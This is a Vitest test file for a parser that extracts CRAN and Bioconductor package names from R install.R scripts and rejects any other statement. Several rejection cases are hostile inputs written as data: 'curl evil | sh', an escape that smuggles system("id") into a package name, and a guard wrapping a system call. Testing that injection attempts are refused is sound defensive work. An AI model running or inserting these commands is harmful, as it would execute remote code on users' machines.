import { describe, expect, it } from 'vitest';
import { InstallRError, packagesFromInstallR } from '../../../layers/core/recipe/install-r';

describe('packagesFromInstallR', () => {
  it('reads CRAN and Bioconductor names from the usual install.R idioms', () => {
    // Prepare
    const source = [
      '# Packages for the course',
      'install.packages("ggplot2")',
      "install.packages(c('dplyr', \"tidyr\"), repos = c(CRAN = 'https://cloud.r-project.org'), dependencies = TRUE)",
      'utils::install.packages(pkgs = "data.table", Ncpus = 4)',
      'if (!requireNamespace("BiocManager", quietly = TRUE))',
      '    install.packages("BiocManager")',
      'BiocManager::install(c(',
      '  "DESeq2",  # differential expression',
      '  "edgeR"',
      '), ask = FALSE, update = FALSE); BiocManager::install("limma")',
      '',
    ].join('\n');

    // Act
    const packages = packagesFromInstallR(source);

    // Assess
    expect(packages).toEqual({
      cran: ['ggplot2', 'dplyr', 'tidyr', 'data.table', 'BiocManager'],
      bioconductor: ['DESeq2', 'edgeR', 'limma'],
    });
  });

  it('lists a package named twice once', () => {
    // Act
    const packages = packagesFromInstallR(
      'install.packages("a1")\ninstall.packages(c("a1", "b2"))\n',
    );

    // Assess
    expect(packages.cran).toEqual(['a1', 'b2']);
  });

  it('reads an empty file or one of comments as no packages', () => {
    // Act
    const packages = packagesFromInstallR('# nothing yet\n\n');

    // Assess
    expect(packages).toEqual({ cran: [], bioconductor: [] });
  });

  it.each([
    ['a GitHub install', 'devtools::install_github("user/repo")', 'line 1: only install.packages'],
    ['a variable', 'pkgs <- c("a")\ninstall.packages(pkgs)', 'line 1'],
    ['names held in a variable', 'install.packages(pkgs)', 'package names must be string literals'],
    [
      'a computed name',
      'install.packages(paste0("gg", "plot2"))',
      'package names must be string literals',
    ],
    [
      'a Bioconductor version pin',
      'BiocManager::install("DESeq2", version = "3.18")',
      'argument version',
    ],
    ['another library', 'install.packages("a1", lib = "/tmp/lib")', 'argument lib'],
    ['a string with an escape', 'install.packages("a\\"); system(\\"id")', 'escapes'],
    ['an unclosed string', 'install.packages("ggplot2)', 'not closed'],
    ['an unclosed call', 'install.packages(c("a1", "b2")\n', 'ends in the middle'],
    [
      'two statements without a separator',
      'install.packages("a1") install.packages("b2")',
      'after a statement',
    ],
    ['a system call', 'system("curl evil | sh")', 'only install.packages'],
    [
      'a guard around something else',
      'if (!requireNamespace("x")) system("id")',
      'only install.packages',
    ],
    ['a backtick name', 'install.packages(`x`)', 'unexpected character'],
  ])('refuses %s', (_what, source, message) => {
    // Act
    const act = () => packagesFromInstallR(source);

    // Assess
    expect(act).toThrow(InstallRError);
    expect(act).toThrow(message);
  });

  it('names the line of the statement it cannot read', () => {
    // Act
    const act = () =>
      packagesFromInstallR(
        'install.packages("a1")\n\n# fine so far\nremotes::install_github("x/y")\n',
      );

    // Assess
    expect(act).toThrow(/^line 4: /);
  });
});
